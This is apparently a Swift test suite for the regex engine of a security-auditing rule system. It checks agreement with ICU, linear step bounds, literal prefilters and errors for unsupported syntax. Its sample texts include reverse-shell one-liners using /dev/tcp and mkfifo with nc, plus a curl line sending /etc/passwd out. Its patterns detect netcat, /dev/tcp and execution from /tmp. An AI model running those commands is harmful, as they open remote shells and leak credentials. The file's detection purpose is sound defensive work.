import Foundation
import TestSupport
import Testing

@testable import AuditreeRules

/// Rule regexes run on `RegexProgram` (a Thompson NFA): the same answers as ICU on the
/// syntax rule files use, a bounded number of steps on any pattern, and a load error
/// naming the rule file's key for syntax that needs backtracking.
@Suite("Rule regex engine")
struct RegexEngineTests {
    static let texts = [
        "", "sh -c id", "/bin/sh -c uname -a", "bash -i", "bash -li",
        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
        "java -cp x org.apache.catalina.startup.Bootstrap start", "java -jar app.war", "java -jar app.warx",
        "python3 -m gunicorn app:app",
        "python -m pip install x", "node /srv/app/server.js", "node bin/www", "npx next start", "sh -c mkfifo /tmp/f",
        "sh -c cat /tmp/f|nc 10.0.0.1 4444", "sh /tmp/x.sh", "/var/tmp/run", "sh -c ./tmp/x", "WEB-exec", "apache2",
        "httpd_exec",
        "nginx-key", "webshell", "mywebthing", "/usr/lib/cgi-bin/x", "cgi-bin", "/srv/cgi-binx", "line one\nline two",
        "ends with newline\n", "ends with crlf\r\n", "café crème", "CAFÉ", "ǅ title", "tab\there", "αβγ δ", "x_y z",
        "123 456",
        "aaaaaaaaaaaaaaaaaaaaaaaa", "aaaaaaaaaaaaaaaaaaaaaaa!", "ab{2}", "a.b", "a\\b", "[x]", "e\u{301}",
        "\u{1F600} emoji",
        "pnscan -W 'de ad be ef' 10.0.0.0/8 22", "pnscan -w \"de ad\" 1.2.3.4", "x -R 0a0b0c ", "curl -d x",
        "curl -D x", "ls -t a",
        "\u{212A}ILL", "kill", "KILL", "\u{017F}ecret", "\u{0131}d", "\u{0131}D", "\u{0130}D", "TMP", "a - W",
        // Short patterns start threads only near a literal occurrence (`RegexProgram.startWindow`):
        // occurrences that are not matches before one that is, wide whitespace around it.
        "curl --retry 3 --retry-delay 1 -o out http://x/a", "curl --retry-delay 1 -d @/etc/passwd http://x",
        "curl --retry-delay 1\u{3000}-T\u{3000}f", "x\u{00A0}-F\u{2003}y", "-d x", "x -d", " -d ", "--retry-delay",
    ]

    static let patterns = [
        #"org\.apache\.catalina"#, #"org\.eclipse\.jetty|jetty-runner|start\.jar"#, #"(^| )-jar \S+\.war( |$)"#,
        #"(^| )-m (gunicorn|uvicorn|hypercorn|daphne|waitress|http\.server)( |$)|manage\.py runserver"#,
        #"(^| )\S*(server|app)\.[cm]?js( |$)|(^| )\S*bin/www( |$)|(^| )\S*(next|nuxt) start( |$)"#,
        #"(^|/)cgi-bin(/|$)"#,
        #"(?i)(^|[^a-z])(web|www|httpd?|apache2?|nginx|php-?fpm|lighttpd|cgi|webshell)([^a-z]|$)"#,
        #"^\S+( -[A-Za-z]+)* -[A-Za-z]*i[A-Za-z]*( |$)"#, #"/dev/(tcp|udp)/"#, #"(^|[;&|( ])mkfifo( |$)"#,
        #"(^|[;&|( ])(nc|ncat|netcat|socat)( |$)"#, #"(^\S+ +|(^| )-c +|[;&|(`] *)(\./)?/(tmp|var/tmp|dev/shm)/"#,
        #"(^| )/usr/share/debconf/"#, "^$", "$", "^", "a{2}", "a{2,}", "a{1,3}!", "^a{0,2}$", #"\d+"#, #"\w+ \w+"#,
        #"\s"#,
        #"\bone\b"#, #"\Bne"#, #"\D\W"#, #"[^a-z ]+"#, "(?i)café", "(?i)CAFÉ CRÈME", "(?i)ǆ", "[α-ω]+", #"\x41|\u00e9"#,
        "(?m)^line two$", "(?m)one$", "line one.line", "(?s)line one.line", #"newline$"#, #"crlf$"#, #"crlf\Z"#,
        #"newline\z"#,
        #"\Asome"#, "(?:ab|a)(?:c|b{2})", #"a\.b"#, #"a\\b"#, #"\[x\]"#, "[]x]", "[x-]", "[-x]", #"[\]]"#, #"[\d.]+"#,
        "e\u{301}", "^.$", ".", "(a|b)*c?", "(?i:WEB)-exec", "(?i)web(?-i)-EXEC", "a*?", "a+?!", "(a*)*b",
        "(?#comment)sh",
        #"\Qa.b\E"#, "😀", #"\x{1F600}"#,
        // Patterns with required literals (the prefilter in front of the NFA), cased and not.
        #"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#, #"\s-[FTd]\s"#, "-D", "(?i)kill", "(?i)KILL",
        "(?i)secret",
        "(?i)[s]ecret", "(?i)id", "(?i)ID", "(?i)[h-k]ill", "(?i)tmp|kill", "ki(?i)ll", "(ab|cd)ef", "x(a|b)?y",
        "(?:\\.[0-9]){2}",
    ]

    @Test("answers as ICU (NSRegularExpression) does on the syntax it supports", arguments: patterns)
    func agreesWithICU(_ pattern: String) throws {
        let ours = try TextPattern(pattern)
        let cased = try TextPattern(pattern, casedPrefilter: true)
        let icu = try NSRegularExpression(pattern: pattern)
        for text in Self.texts {
            let expected = icu.firstMatch(in: text, range: NSRange(text.startIndex..., in: text)) != nil
            #expect(ours.matches(text) == expected, "/\(pattern)/ on \(text.debugDescription)")
            #expect(cased.matches(text) == expected, "/\(pattern)/ (cased prefilter) on \(text.debugDescription)")
        }
    }

    @Test("a short pattern with literals starts threads only within its longest match before an occurrence")
    func startWindow() throws {
        #expect(try TextPattern(#"\s-[FTd]\s"#, casedPrefilter: true).program.startWindow == 16)
        #expect(try TextPattern(#"\s-[FTd]\s+"#, casedPrefilter: true).program.startWindow == nil)
        #expect(try TextPattern(#"\d{2}"#).program.startWindow == nil)
        // A text whose only occurrence sits beyond any match's reach from the whitespace before it.
        let pattern = try TextPattern(#"\s-[FTd]\s"#, casedPrefilter: true)
        #expect(!pattern.matches(" " + String(repeating: "x", count: 40) + "-d "))
        #expect(pattern.matches(String(repeating: "--retry-delay 1 ", count: 200) + "-o f -d x"))
    }

    struct Pathological: Sendable, CustomStringConvertible {
        var pattern: String
        var text: String
        var matches: Bool
        var description: String { "/\(pattern)/ on \(text.unicodeScalars.count) scalars" }
    }

    // Each of these takes ICU exponential or high-polynomial time on this text.
    static let pathological = [
        Pathological(pattern: "(a+)+$", text: String(repeating: "a", count: 100_000) + "!", matches: false),
        Pathological(pattern: "^(a|aa)+$", text: String(repeating: "a", count: 100_000) + "b", matches: false),
        Pathological(pattern: "(x+x+)+y", text: String(repeating: "x", count: 50_000), matches: false),
        Pathological(pattern: "(.*a){12}", text: String(repeating: "a", count: 20_000) + "b", matches: true),
        Pathological(pattern: "(\\w+\\s?)+$", text: String(repeating: "word ", count: 20_000) + "!", matches: false),
        Pathological(pattern: "(a*)*b", text: String(repeating: "a", count: 100_000), matches: false),
    ]

    @Test("steps stay within (scalars + 1) x instructions x 2, whatever the pattern", arguments: pathological)
    func linearSteps(_ input: Pathological) throws {
        let pattern = try TextPattern(input.pattern)
        let (matched, steps) = pattern.matchWithSteps(input.text)
        #expect(matched == input.matches)
        let bound = (input.text.unicodeScalars.count + 1) * pattern.instructionCount * 2
        #expect(steps <= bound, "\(steps) steps, bound \(bound)")
    }

    @Test("doubling the text at most doubles the steps")
    func doublingIsLinear() throws {
        let pattern = try TextPattern("(a+)+$")
        let short = pattern.matchWithSteps(String(repeating: "a", count: 10_000) + "!").steps
        let long = pattern.matchWithSteps(String(repeating: "a", count: 20_000) + "!").steps
        #expect(long <= short * 2 + pattern.instructionCount * 2, "\(short) -> \(long)")
    }

    struct Literals: Sendable, CustomStringConvertible {
        var pattern: String
        var literals: [String]?
        var description: String { pattern }
    }

    /// What the prefilter takes from a pattern: one of these (ASCII letters folded) is in every match.
    static let literalCases = [
        Literals(pattern: #"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#, literals: ["-r", "-w"]),
        Literals(pattern: #"\s-[FTd]\s"#, literals: ["-d", "-f", "-t"]),
        Literals(pattern: #"(?:\s-[^-\s]{0,20}i|\s--inode\s)"#, literals: ["-", "--inode"]),
        Literals(pattern: #"https://[0-9]{1,3}\.[0-9]{1,3}"#, literals: ["https://"]),
        Literals(pattern: #"org\.apache\.catalina"#, literals: ["org.apache.catalina"]),
        Literals(pattern: "(nc|ncat|netcat) -e", literals: ["nc -e", "ncat -e", "netcat -e"]),
        Literals(pattern: "(?i)kb", literals: ["kb", "\u{212A}b"]),
        Literals(pattern: "(?i)ps", literals: ["ps", "p\u{017F}"]),
        Literals(pattern: "a(b|c)?d", literals: ["abd", "acd", "ad"]),
        Literals(pattern: #"\d+"#, literals: nil),
        Literals(pattern: "^$", literals: nil),
        Literals(pattern: "x?", literals: nil),
        Literals(pattern: "(a|.)b", literals: ["b"]),
        Literals(pattern: "(?:ab){2}", literals: ["abab"]),
    ]

    @Test(
        "required literals: joined across a concatenation, one per alternative, none from an optional part",
        arguments: literalCases)
    func requiredLiterals(_ input: Literals) throws {
        let pattern = try TextPattern(input.pattern)
        #expect(
            pattern.literals.map { Set($0.alternatives.map { String(decoding: $0, as: UTF8.self) }) }
                == input.literals.map(Set.init))
    }

    /// The literals as a matching text holds them (`casedPrefilter`): each case form under `(?i)`.
    static let casedLiteralCases = [
        Literals(pattern: #"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#, literals: ["-R", "-W"]),
        Literals(pattern: #"\s-[FTd]\s"#, literals: ["-F", "-T", "-d"]),
        Literals(pattern: "(?i)kb", literals: ["kb", "Kb", "kB", "KB", "\u{212A}b", "\u{212A}B"]),
        Literals(pattern: "Org(?i:x)", literals: ["Orgx", "OrgX"]),
        Literals(pattern: #"\d+"#, literals: nil),
    ]

    @Test("cased literals: as written, every case form of a letter under (?i)", arguments: casedLiteralCases)
    func casedLiterals(_ input: Literals) throws {
        let pattern = try TextPattern(input.pattern, casedPrefilter: true)
        #expect(pattern.prefilter?.cased ?? true)
        #expect(
            pattern.prefilter.map { Set($0.alternatives.map { String(decoding: $0, as: UTF8.self) }) }
                == input.literals.map(Set.init))
        // Without the option the prefilter is the folded literals.
        #expect(try TextPattern(input.pattern).prefilter == TextPattern(input.pattern).literals)
    }

    @Test("a cased prefilter answers a text holding the literal in the other case only without the NFA")
    func casedPrefilterSkipsNFA() throws {
        let pattern = try TextPattern(#"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#, casedPrefilter: true)
        #expect(pattern.matchWithSteps("curl --retry 3 -w '%{http_code}' http://x").matched == false)
        #expect(pattern.matchWithSteps("curl --retry 3 -w '%{http_code}' http://x").steps == 0)
        #expect(pattern.matchWithSteps("pnscan -W 'de ad' 10.0.0.0/8").matched)
        let folded = try TextPattern("(?i)-w 'de")
        let cased = try TextPattern("(?i)-w 'de", casedPrefilter: true)
        for text in ["x -W 'DE", "x -w 'de", "x -W 'dE"] {
            #expect(folded.matches(text) && cased.matches(text), "\(text)")
        }
    }

    @Test("the non-ASCII scalars that match an ASCII letter under (?i) are in the prefilter's table")
    func caseMatesTable() {
        for value in UInt32(0x80)...0x10FFFF {
            guard let scalar = Unicode.Scalar(value) else { continue }
            // What `ScalarSet.contains` reaches: the case forms, and theirs.
            let reached = ScalarSet.otherCases(of: scalar).flatMap { [$0] + ScalarSet.otherCases(of: $0) }
            for other in reached where other.isASCII {
                #expect(
                    RegexLiterals.caseMates(of: UInt8(other.value)).contains(scalar),
                    "U+\(String(value, radix: 16)) -> \(other)")
            }
        }
    }

    @Test("a text without the required literals is answered without running the NFA")
    func prefilterSkipsNFA() throws {
        let pattern = try TextPattern(#"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#)
        #expect(pattern.matchWithSteps(String(repeating: "pnscan 10.0.0.0/8 ", count: 100)) == (false, 0))
        #expect(pattern.matchWithSteps("pnscan -W 'de ad' 10.0.0.0/8").matched)
    }

    @Test(
        "with no thread alive, positions no match can start at cost one step each",
        arguments: [
            #"/dev/(tcp|udp)/"#, #"(^|[;&|( ])(nc|ncat|netcat|socat)( |$)"#, #"org\.apache\.catalina"#,
        ])
    func passesOverText(_ source: String) throws {
        let pattern = try TextPattern(source)
        let text = String(repeating: "x", count: 100_000) + " nc /dev/tcp/1.2.3.4/80 org.apache.catalina"
        let (matched, steps) = pattern.matchWithSteps(text)
        #expect(matched)
        // About one step per scalar passed over, not a thread started at each position.
        #expect(steps <= 100_000 + 50 * pattern.instructionCount * 2, "\(steps) steps")
    }

    struct Unsupported: Sendable, CustomStringConvertible {
        var pattern: String
        var message: String
        var offset: Int
        var description: String { pattern }
    }

    static let unsupported = [
        Unsupported(
            pattern: #"(a)\1"#, message: "backreferences ('\\1') need backtracking and are not supported", offset: 3),
        Unsupported(
            pattern: "a(?=b)", message: "lookaround ('(?=') needs backtracking and is not supported", offset: 1),
        Unsupported(
            pattern: "a(?<!b)", message: "lookaround ('(?<!') needs backtracking and is not supported", offset: 1),
        Unsupported(
            pattern: "(?>a+)b", message: "atomic groups ('(?>') need backtracking and are not supported", offset: 0),
        Unsupported(
            pattern: "a++", message: "possessive quantifiers ('++') need backtracking and are not supported", offset: 2),
        Unsupported(
            pattern: #"\p{L}"#,
            message: "Unicode properties ('\\p{...}') are not supported: use a class such as [a-z] or \\w", offset: 0),
        Unsupported(
            pattern: "[[:alpha:]]",
            message: "nested sets and [:classes:] are not supported: write '\\[' to match a bracket", offset: 1),
        Unsupported(pattern: "[a-z&&[^x]]", message: "set operations ('&&') are not supported", offset: 4),
        Unsupported(pattern: "(?x) a", message: "unsupported flag 'x' (supported: i, m, s)", offset: 2),
        Unsupported(pattern: #"\k<n>"#, message: "unsupported escape '\\k'", offset: 0),
        Unsupported(pattern: "(unclosed", message: "missing ')' for the group opened here", offset: 0),
        Unsupported(pattern: "a)", message: "unmatched ')'", offset: 1),
        Unsupported(pattern: "*a", message: "'*' has nothing to repeat: write '\\*' to match it", offset: 0),
        Unsupported(pattern: "a{2,1}", message: "repetition {2,1}: the maximum is below the minimum", offset: 1),
        Unsupported(pattern: "a{1001}", message: "repetition counts above 1000 are not supported", offset: 1),
        Unsupported(pattern: "[z-a]", message: "range out of order", offset: 1),
        Unsupported(pattern: "[abc", message: "missing ']' for the class opened here", offset: 0),
        Unsupported(pattern: "(a{1000}){1000}", message: "the pattern is too large", offset: 0),
    ]

    @Test("syntax that needs backtracking, or is not a regex, is refused with where and why", arguments: unsupported)
    func refused(_ input: Unsupported) {
        #expect {
            _ = try TextPattern(input.pattern)
        } throws: { error in
            guard let error = error as? RegexSyntaxError else { return false }
            #expect(error.message.hasPrefix(input.message), "\(error.message)")
            #expect(error.offset == input.offset, "\(error)")
            return true
        }
    }

    @Test("a rule file with unsupported syntax is an error at load, with the file, line and key")
    func loadError() {
        let yaml = """
            version: 1
            lists:
              shells: [sh]
              interps: [python]
            rules:
              - id: r1
                severity: high
                child: {list: shells, argv_regex: '(a)\\1'}
                spawner: {list: interps}
            """
        #expect {
            _ = try RuleFileParser.parse(yaml, file: "mine.yaml")
        } throws: { error in
            guard let error = error as? RuleFileError else { return false }
            #expect(
                error.description
                    == "mine.yaml:8:39: error: rules[0].child.argv_regex: invalid regular expression '(a)\\1': "
                    + "backreferences ('\\1') need backtracking and are not supported (at offset 3)", "\(error)")
            return true
        }
    }
}
